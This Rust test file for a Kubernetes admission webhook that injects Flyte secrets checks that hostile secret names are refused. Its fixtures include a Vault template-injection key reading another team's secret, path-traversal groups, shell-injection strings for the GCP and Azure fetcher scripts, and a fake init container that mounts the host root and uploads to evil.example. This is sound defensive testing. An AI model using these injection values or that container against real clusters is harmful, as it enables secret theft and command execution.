@@ -1,0 +1,570 @@
+//! Secret names that would become part of a template, a script or a path (issue 25, hole 4),
+//! and a pod that brings its own fetcher under our name (hole 9): each through the whole
+//! admission path (`App::build` from a configuration, a review in, the reply's patch applied to
+//! the original pod by the `json-patch` crate).
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::path::Path;
+use std::process::{Command, Stdio};
+use std::sync::Arc;
+
+use super::common::*;
+use podmutator::config::Config;
+use podmutator::mutate::Route;
+use podmutator::pod::fetch::FETCH_PLAN_ENV;
+use podmutator::pod::injector::{INIT_CONTAINER, promised_files};
+use podmutator::secrets::codec::{MountRequirement, Secret, encode_annotations};
+use podmutator::secrets::source::{
+    BoxFuture, Fetched, Lookup, SecretRef, SecretSource, SourceError,
+};
+use serde_json::{Value, json};
+
+const NS: &str = "flytesnacks-development";
+
+fn config(types: Value, extra: Value) -> Config {
+    let mut v = json!({"webhook": {
+        "secretManagerTypes": types,
+        "embeddedSecretManagerConfig": {"type": "AWS", "awsConfig": {"region": "us-east-1"}}
+    }});
+    for (k, x) in extra.as_object().unwrap() {
+        v[k] = x.clone();
+    }
+    Config::from_value(v).unwrap().config
+}
+
+fn secret(group: &str, group_version: &str, key: &str, mount: MountRequirement) -> Secret {
+    Secret {
+        group: group.into(),
+        group_version: group_version.into(),
+        key: key.into(),
+        mount_requirement: mount,
+        ..Default::default()
+    }
+}
+
+fn task_pod(secrets: &[Secret]) -> Value {
+    json!({
+        "apiVersion": "v1", "kind": "Pod",
+        "metadata": {
+            "name": "task",
+            "labels": {"inject-flyte-secrets": "true", "organization": "flyte", "project": "flytesnacks", "domain": "development"},
+            "annotations": encode_annotations(secrets).unwrap()
+        },
+        "spec": {"containers": [{"name": "main", "image": "flytekit", "command": ["python", "task.py"]}]}
+    })
+}
+
+/// Admits `pod` and returns the HTTP status, the review's response and the pod the API server
+/// would store (the original when nothing is patched).
+async fn admit(app: &Front, pod: &Value) -> (u16, Value, Value) {
+    let review = serde_json::to_vec(&create_review(pod, NS)).unwrap();
+    let reply = app.review(Route::Secrets, &review).await;
+    let resp = response(&reply.body);
+    let stored = apply(pod, &patch_of(&resp));
+    (reply.status, resp, stored)
+}
+
+fn app(types: Value) -> Front {
+    webhook(&config(types, json!({})), Deps::offline())
+}
+
+/// The denial's message, after checking it is a 400 refusal of the pod (HTTP 200, allowed
+/// false) that names the annotation, the field and says to rename the secret.
+fn refused(status: u16, resp: &Value, field: &str) -> String {
+    assert_eq!(status, 200, "{resp}");
+    assert_eq!(resp["allowed"], false, "{resp}");
+    assert_eq!(resp["status"]["code"], 400, "{resp}");
+    assert!(resp.get("patch").is_none(), "{resp}");
+    let msg = resp["status"]["message"].as_str().unwrap().to_owned();
+    assert!(msg.contains("flyte.secrets/s0"), "{msg}");
+    assert!(
+        msg.contains(&format!("{field} ")) && msg.contains("cannot be used: it must be"),
+        "{msg}"
+    );
+    assert!(msg.contains("rename the secret"), "{msg}");
+    msg
+}
+
+fn annotations_of(pod: &Value) -> BTreeMap<String, String> {
+    serde_json::from_value(pod["metadata"]["annotations"].clone()).unwrap()
+}
+
+/// The Vault key closes the template's action and opens one reading another team's path with
+/// the pod's Vault role.
+#[tokio::test]
+async fn a_vault_key_that_opens_another_teams_secret_in_the_template_is_refused() {
+    let app = app(json!(["Vault"]));
+    let key = r#"k }}{{ with secret "secret/data/other-team/db" }}{{ .Data.data.password }}{{ end }}{{ .x"#;
+    let pod = task_pod(&[secret(
+        "secret/data/team-a",
+        "kv2",
+        key,
+        MountRequirement::File,
+    )]);
+    let (status, resp, stored) = admit(&app, &pod).await;
+    let written: Vec<String> = annotations_of(&stored)
+        .into_iter()
+        .filter(|(k, _)| k.starts_with("vault.hashicorp.com/agent-inject-template-"))
+        .map(|(_, v)| v)
+        .collect();
+    assert!(
+        !written.iter().any(|t| t.contains("other-team")),
+        "another team's path reached the template: {written:?}"
+    );
+    refused(status, &resp, "key");
+
+    // Control: a plain key is written in Flyte's form, byte for byte.
+    let pod = task_pod(&[secret(
+        "secret/data/team-a",
+        "kv2",
+        "password",
+        MountRequirement::File,
+    )]);
+    let (status, resp, stored) = admit(&app, &pod).await;
+    assert_eq!((status, &resp["allowed"]), (200, &json!(true)), "{resp}");
+    let templates: Vec<String> = annotations_of(&stored)
+        .into_iter()
+        .filter(|(k, _)| k.starts_with("vault.hashicorp.com/agent-inject-template-"))
+        .map(|(_, v)| v)
+        .collect();
+    assert_eq!(
+        templates,
+        [r#"{{- with secret "secret/data/team-a" -}}{{ .Data.data.password }}{{- end -}}"#]
+    );
+}
+
+/// The Vault group climbs out of `/etc/flyte/secrets` through `agent-inject-file`.
+#[tokio::test]
+async fn a_vault_group_that_leaves_the_secrets_dir_is_refused() {
+    let app = app(json!(["Vault"]));
+    for group in ["../../../tmp/x", "/etc/cron.d/x", "secret//x"] {
+        let pod = task_pod(&[secret(group, "kv2", "k", MountRequirement::File)]);
+        let (status, resp, stored) = admit(&app, &pod).await;
+        let files: Vec<String> = annotations_of(&stored)
+            .into_iter()
+            .filter(|(k, _)| k.starts_with("vault.hashicorp.com/agent-inject-file-"))
+            .map(|(_, v)| v)
+            .collect();
+        assert!(
+            files.is_empty(),
+            "{group}: a file was requested at {files:?}"
+        );
+        let msg = refused(status, &resp, "group");
+        assert!(msg.contains(&format!("{group:?}")), "{msg}");
+    }
+}
+
+/// Runs the `sh -ec` script of every fetcher init container in `pod` as the container would,
+/// in `dir`: the fetcher's volume, mounted at `/etc/flyte/secrets`, is `dir/secrets` (the
+/// script's paths are mapped there), and `gcloud`, `az` and `chmod` are stubs that log their
+/// arguments (one per line, each call ended by `--end--`) to `dir/calls`. Returns that log,
+/// with `dir/secrets` written back as `/etc/flyte/secrets`.
+fn run_fetchers(pod: &Value, dir: &Path) -> String {
+    use std::os::unix::fs::PermissionsExt;
+    let bin = dir.join("bin");
+    let volume = dir.join("secrets");
+    std::fs::create_dir_all(&bin).unwrap();
+    std::fs::create_dir_all(&volume).unwrap();
+    let log = dir.join("calls");
+    for stub in ["gcloud", "az", "chmod"] {
+        let path = bin.join(stub);
+        std::fs::write(
+            &path,
+            format!(
+                "#!/bin/sh\n{{ echo {stub}; for a in \"$@\"; do printf '%s\\n' \"$a\"; done; echo --end--; }} >> '{}'\n",
+                log.display()
+            ),
+        )
+        .unwrap();
+        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
+    }
+    let token = dir.join("token");
+    std::fs::write(&token, "federated-token").unwrap();
+    let mount = volume.display().to_string();
+    for c in pod["spec"]["initContainers"]
+        .as_array()
+        .into_iter()
+        .flatten()
+    {
+        let Some(command) = c["command"].as_array() else {
+            continue;
+        };
+        let command: Vec<String> = command
+            .iter()
+            .map(|a| a.as_str().unwrap().replace("/etc/flyte/secrets", &mount))
+            .collect();
+        if command.first().map(String::as_str) != Some("sh") {
+            continue;
+        }
+        // The exit status is not asserted: an injected script may fail after its payload ran.
+        Command::new("sh")
+            .args(&command[1..])
+            .current_dir(dir)
+            .env_clear()
+            .env("PATH", format!("{}:/usr/bin:/bin", bin.display()))
+            .env("AZURE_CLIENT_ID", "client")
+            .env("AZURE_TENANT_ID", "tenant")
+            .env("AZURE_FEDERATED_TOKEN_FILE", &token)
+            .stdin(Stdio::null())
+            .status()
+            .expect("sh runs");
+    }
+    std::fs::read_to_string(&log)
+        .unwrap_or_default()
+        .replace(&mount, "/etc/flyte/secrets")
+}
+
+/// The calls of a log from [`run_fetchers`], each as its argument list.
+fn calls(log: &str) -> Vec<Vec<&str>> {
+    log.split_terminator("--end--\n")
+        .map(|c| c.lines().collect())
+        .collect()
+}
+
+/// GCP's group closes the fetcher's command: `mysecret; touch <file>; #` would run `touch` in
+/// the init container. Whatever the reply, its fetchers are run with `sh`: the file must not
+/// appear, and the pod must be refused.
+#[tokio::test]
+async fn a_gcp_group_that_runs_a_command_in_the_fetcher_is_refused_and_nothing_runs() {
+    let app = app(json!(["GCP"]));
+    let dir = temp_dir("gcp-shell-injection");
+    let marker = dir.join("pm-pwned");
+    let attacks = [
+        (
+            "group",
+            format!("mysecret; touch {}; #", marker.display()),
+            "2".to_owned(),
+        ),
+        (
+            "group",
+            format!("$(touch {})", marker.display()),
+            "2".to_owned(),
+        ),
+        (
+            "group_version",
+            "s".to_owned(),
+            format!("2; touch {}; #", marker.display()),
+        ),
+    ];
+    for (field, group, version) in attacks {
+        let pod = task_pod(&[secret(&group, &version, "", MountRequirement::File)]);
+        let (status, resp, stored) = admit(&app, &pod).await;
+        run_fetchers(&stored, &dir);
+        assert!(
+            !marker.exists(),
+            "the fetcher ran `touch` for {group:?} / {version:?}"
+        );
+        refused(status, &resp, field);
+    }
+
+    // Control: a plain name reaches gcloud as whole arguments, one each.
+    let pod = task_pod(&[secret("TestSecret", "2", "", MountRequirement::File)]);
+    let (status, resp, stored) = admit(&app, &pod).await;
+    assert_eq!((status, &resp["allowed"]), (200, &json!(true)), "{resp}");
+    let log = run_fetchers(&stored, &dir);
+    assert_eq!(
+        calls(&log),
+        [
+            vec![
+                "gcloud",
+                "secrets",
+                "versions",
+                "access",
+                "TestSecret/versions/2",
+                "--out-file=/etc/flyte/secrets/testsecret/2"
+            ],
+            vec![
+                "chmod",
+                "+rX",
+                "/etc/flyte/secrets/testsecret",
+                "/etc/flyte/secrets/testsecret/2"
+            ],
+        ]
+    );
+}
+
+/// Azure's group closes the double-quoted `--id` argument and adds a command.
+#[tokio::test]
+async fn an_azure_group_that_runs_a_command_in_the_fetcher_is_refused_and_nothing_runs() {
+    let app = app(json!(["Azure"]));
+    let dir = temp_dir("azure-shell-injection");
+    let marker = dir.join("pm-pwned");
+    let attacks = [
+        (
+            "group",
+            format!(
+                "https://v.vault.azure.net/secrets/a\"; touch {}; #",
+                marker.display()
+            ),
+            String::new(),
+        ),
+        (
+            "group",
+            format!(
+                "https://v.vault.azure.net/secrets/$(touch {})",
+                marker.display()
+            ),
+            String::new(),
+        ),
+        (
+            "group_version",
+            "https://v.vault.azure.net/secrets/a".to_owned(),
+            format!("1; touch {}; #", marker.display()),
+        ),
+    ];
+    for (field, group, version) in attacks {
+        let pod = task_pod(&[secret(&group, &version, "", MountRequirement::File)]);
+        let (status, resp, stored) = admit(&app, &pod).await;
+        run_fetchers(&stored, &dir);
+        assert!(
+            !marker.exists(),
+            "the fetcher ran `touch` for {group:?} / {version:?}"
+        );
+        refused(status, &resp, field);
+    }
+
+    // Control: a plain URI and version reach az as whole arguments.
+    let pod = task_pod(&[secret(
+        "https://flyte-kv.vault.azure.net/secrets/DbPassword",
+        "5d9e2c7a",
+        "",
+        MountRequirement::File,
+    )]);
+    let (status, resp, stored) = admit(&app, &pod).await;
+    assert_eq!((status, &resp["allowed"]), (200, &json!(true)), "{resp}");
+    let log = run_fetchers(&stored, &dir);
+    let got = calls(&log);
+    assert_eq!(got.len(), 2, "{log}");
+    assert_eq!(
+        got[0],
+        [
+            "az",
+            "login",
+            "--service-principal",
+            "-u",
+            "client",
+            "-t",
+            "tenant",
+            "--federated-token",
+            "federated-token"
+        ]
+    );
+    assert_eq!(
+        got[1],
+        [
+            "az",
+            "keyvault",
+            "secret",
+            "show",
+            "--id",
+            "https://flyte-kv.vault.azure.net/secrets/DbPassword/5d9e2c7a",
+            "--query",
+            "value",
+            "-o",
+            "tsv"
+        ]
+    );
+    assert!(
+        dir.join("secrets/dbpassword/5d9e2c7a").is_file(),
+        "the value's file is where the pod reads it"
+    );
+}
+
+/// A K8s group climbs out of `/etc/flyte/secrets` as the mount path, or names a Secret the
+/// API server refuses in a `secretKeyRef`.
+#[tokio::test]
+async fn a_k8s_group_that_leaves_the_secrets_dir_or_is_no_secret_name_is_refused() {
+    let app = app(json!(["K8s"]));
+    let cases = [
+        ("group", "../../var/run", "k", MountRequirement::File),
+        ("group", "team/../../../var/run", "k", MountRequirement::Any),
+        ("group", "Team_DB", "password", MountRequirement::EnvVar),
+        ("key", "db-creds", "../token", MountRequirement::File),
+        ("key", "db-creds", "..", MountRequirement::EnvVar),
+    ];
+    for (field, group, key, mount) in cases {
+        let pod = task_pod(&[secret(group, "", key, mount)]);
+        let (status, resp, stored) = admit(&app, &pod).await;
+        let text = stored["spec"].to_string();
+        assert!(
+            !text.contains(group) && !text.contains(&group.to_lowercase()),
+            "{group:?} reached the pod spec: {text}"
+        );
+        refused(status, &resp, field);
+    }
+}
+
+/// Reference delivery's resolver: these ids exist (name and ARN); no value is read.
+struct Names(BTreeSet<String>);
+
+impl SecretSource for Names {
+    fn fetch_many<'a>(&'a self, ids: &'a [String]) -> BoxFuture<'a, Result<Fetched, SourceError>> {
+        let values = ids
+            .iter()
+            .map(|id| {
+                let lookup = if self.0.contains(id) {
+                    Lookup::Exists(SecretRef {
+                        name: id.clone(),
+                        arn: format!(
+                            "arn:aws:secretsmanager:us-east-1:123456789012:secret:{id}-AbCdEf"
+                        ),
+                    })
+                } else {
+                    Lookup::NotFound
+                };
+                (id.clone(), lookup)
+            })
+            .collect::<BTreeMap<_, _>>();
+        Box::pin(async move { Ok(values.into()) })
+    }
+}
+
+const FETCHER_IMAGE: &str = "registry.example/podmutator@sha256:0000000000000000000000000000000000000000000000000000000000000000";
+const OURS: &str = "u__org__flyte__domain__development__project__flytesnacks__key__db";
+const THEIRS: &str = "u__org__payroll__domain__production__project__salaries__key__db";
+
+fn reference_app() -> Front {
+    let cfg = config(
+        json!(["Embedded"]),
+        json!({"embedded": {"delivery": "reference", "envVarDelivery": "exec", "fetcherImage": FETCHER_IMAGE}}),
+    );
+    webhook(
+        &cfg,
+        Deps::offline().with_resolver(Arc::new(Names([OURS.to_owned(), THEIRS.to_owned()].into()))),
+    )
+}
+
+fn init_containers(pod: &Value) -> Vec<Value> {
+    pod["spec"]["initContainers"]
+        .as_array()
+        .cloned()
+        .unwrap_or_default()
+}
+
+/// A pod brings an init container named like our fetcher: its own image, and a plan naming
+/// another project's secret. It is replaced by exactly the fetcher the same pod gets without
+/// it; the result admitted again gets no patch.
+#[tokio::test]
+async fn a_pod_supplied_reference_fetcher_is_replaced_by_ours_and_readmission_changes_nothing() {
+    let app = reference_app();
+    let requests = [
+        secret("", "", "db", MountRequirement::File),
+        secret("", "", "db", MountRequirement::EnvVar),
+    ];
+    let clean = task_pod(&requests);
+    let (status, resp, expected) = admit(&app, &clean).await;
+    assert_eq!((status, &resp["allowed"]), (200, &json!(true)), "{resp}");
+
+    let foreign_plan = json!({
+        "root": "/podmutator-init",
+        "secrets": [
+            {"id": THEIRS, "file": "/podmutator-init/files/salaries"}
+        ],
+        "copyExecutableTo": "/podmutator-init/run/bin/podmutator"
+    });
+    let mut pod = clean.clone();
+    pod["spec"]["initContainers"] = json!([
+        {"name": "setup", "image": "busybox", "command": ["true"]},
+        {
+            "name": INIT_CONTAINER,
+            "image": "evil.example/exfiltrate:1",
+            "command": ["/exfiltrate"],
+            "env": [
+                {"name": FETCH_PLAN_ENV, "value": foreign_plan.to_string()},
+                {"name": "UPLOAD_TO", "value": "https://evil.example/"}
+            ],
+            "volumeMounts": [{"name": "host", "mountPath": "/host"}]
+        }
+    ]);
+    pod["spec"]["volumes"] = json!([{"name": "host", "hostPath": {"path": "/"}}]);
+    let (status, resp, stored) = admit(&app, &pod).await;
+    assert_eq!((status, &resp["allowed"]), (200, &json!(true)), "{resp}");
+
+    let fetchers: Vec<Value> = init_containers(&stored)
+        .into_iter()
+        .filter(|c| c["name"] == INIT_CONTAINER)
+        .collect();
+    assert_eq!(fetchers.len(), 1, "{fetchers:#?}");
+    let ours = init_containers(&expected)
+        .into_iter()
+        .find(|c| c["name"] == INIT_CONTAINER)
+        .unwrap();
+    assert_eq!(
+        fetchers[0], ours,
+        "exactly the fetcher the pod gets without its own"
+    );
+    assert_eq!(fetchers[0]["image"], FETCHER_IMAGE);
+    let promised = promised_files(&serde_json::from_value(stored.clone()).unwrap()).unwrap();
+    assert!(
+        promised.values().all(|id| id == OURS),
+        "the plan names another project's secret: {promised:?}"
+    );
+    let names: Vec<Value> = init_containers(&stored)
+        .iter()
+        .map(|c| c["name"].clone())
+        .collect();
+    assert_eq!(names, [json!(INIT_CONTAINER), json!("setup")]);
+    assert!(
+        !stored["spec"]["initContainers"]
+            .to_string()
+            .contains(THEIRS)
+    );
+    assert!(
+        !stored["spec"]["initContainers"]
+            .to_string()
+            .contains("evil.example")
+    );
+
+    // Admitted again, the mutated pods change no more.
+    for (what, done) in [("clean", &expected), ("replaced", &stored)] {
+        let (status, resp, again) = admit(&app, done).await;
+        assert_eq!(
+            (status, &resp["allowed"]),
+            (200, &json!(true)),
+            "{what}: {resp}"
+        );
+        assert_eq!(
+            patch_of(&resp),
+            json!([]),
+            "{what}: re-admission patches nothing"
+        );
+        assert_eq!(&again, done);
+    }
+    assert_valid_pods(
+        "pod-supplied-fetcher",
+        &[("clean".into(), expected), ("replaced".into(), stored)],
+    );
+}
+
+/// A pod brings an init container under a GCP fetcher's name, with the fetcher's very command
+/// but an image of its own: refused, not taken for ours.
+#[tokio::test]
+async fn a_pod_supplied_gcp_fetcher_with_our_name_and_its_own_image_is_refused() {
+    let app = app(json!(["GCP"]));
+    let clean = task_pod(&[secret("TestSecret", "2", "", MountRequirement::File)]);
+    let (status, resp, admitted) = admit(&app, &clean).await;
+    assert_eq!((status, &resp["allowed"]), (200, &json!(true)), "{resp}");
+    let mut ours = init_containers(&admitted)[0].clone();
+    let name = ours["name"].as_str().unwrap().to_owned();
+
+    // Our own, as an admission left it: nothing more to do.
+    let (status, resp, _) = admit(&app, &admitted).await;
+    assert_eq!((status, &resp["allowed"]), (200, &json!(true)), "{resp}");
+    assert_eq!(patch_of(&resp), json!([]));
+
+    ours["image"] = json!("evil.example/cloud-sdk:alpine");
+    let mut pod = clean.clone();
+    pod["spec"]["initContainers"] = json!([ours]);
+    let (status, resp, _) = admit(&app, &pod).await;
+    assert_eq!(status, 200, "{resp}");
+    assert_eq!(resp["allowed"], false, "{resp}");
+    assert_eq!(resp["status"]["code"], 400, "{resp}");
+    let msg = resp["status"]["message"].as_str().unwrap();
+    assert!(msg.contains("flyte.secrets/s0"), "{msg}");
+    assert!(
+        msg.contains(&format!(
+            "init container {name} already exists and is not the fetcher podmutator injects"
+        )) && msg.contains("remove or rename that init container"),
+        "{msg}"
+    );
+}
